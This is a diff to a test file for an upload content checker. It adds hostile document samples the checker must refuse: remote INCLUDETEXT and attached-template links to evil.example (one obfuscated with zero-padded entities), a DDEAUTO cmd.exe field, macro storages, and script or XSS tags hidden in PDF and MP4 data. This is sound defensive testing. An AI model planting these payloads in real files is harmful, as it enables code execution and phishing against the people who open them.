@@ -8,7 +8,7 @@ import { deflateSync } from 'node:zlib';
 import { oleFile } from '../../../../test/files/ole-file.ts';
 import { box, docx, mp4, pdfOf, webmOf } from '../../../../test/files/sample-files.ts';
 import { type ZipEntry, zipFile } from '../../../../test/files/zip-file.ts';
-import { isOfKind } from './file-content.ts';
+import { checkContent } from './file-content.ts';
 import { kindByName } from './file-kinds.ts';
 
 const folder = await mkdtemp(join(tmpdir(), 'waggle-active-'));
@@ -194,6 +194,25 @@ const REFUSED: Case[] = [
     Buffer.concat([oleFile({}), Buffer.from('\u0013 DDEAUTO c:\\cmd.exe', 'utf16le')]),
   ],
   [
+    'a text taken in from elsewhere',
+    'a.docx',
+    part('<w:fldSimple w:instr=" INCLUDETEXT &quot;https://evil.example/a.docx&quot;"/>'),
+  ],
+  [
+    'a template in numbers with zeros before them',
+    'a.docx',
+    related('attachedTemplate', '&#x00000068;&#000000116;tp://evil.example/t.dotm'),
+  ],
+  ['macros with an end in their name', 'a.doc', oleFile({ storages: ['Macros\0'] })],
+  ...['<img src=x onerror=x>', '<meta http-equiv=refresh>', '<a href="x:">', '<math>'].map(
+    (tag): Case => [`a page of ${tag}`, 'a.pdf', Buffer.from(`%PDF-1.7\n${tag}\n%%EOF\n`)],
+  ),
+  [
+    'a script in the middle of the film',
+    'a.mp4',
+    mp4('isom', Buffer.from('<script>x()</script>'.padStart(9000).padEnd(20_000))),
+  ],
+  [
     'declarations of 3 MB',
     'a.docx',
     docx(
@@ -309,16 +328,17 @@ const ACCEPTED: Case[] = [
   ],
 ];
 
-async function isTaken(name: string, content: Buffer): Promise<boolean> {
+async function resultOf(name: string, content: Buffer) {
   const path = join(folder, name);
   await writeFile(path, content);
-  return isOfKind(path, kindByName(name, /\.(?:mp4|webm)$/.test(name) ? 'MEDIA' : 'KYC_DOCS'));
+  return checkContent(path, kindByName(name, /\.(?:mp4|webm)$/.test(name) ? 'MEDIA' : 'KYC_DOCS'));
 }
 
 for (const [what, name, content] of REFUSED) {
-  test(`refused: ${what} (${name})`, async () => assert.equal(await isTaken(name, content), false));
+  test(`refused: ${what} (${name})`, async () =>
+    assert.equal(await resultOf(name, content), 'refused'));
 }
 
 for (const [what, name, content] of ACCEPTED) {
-  test(`taken: ${what} (${name})`, async () => assert.equal(await isTaken(name, content), true));
+  test(`taken: ${what} (${name})`, async () => assert.equal(await resultOf(name, content), 'fine'));
 }
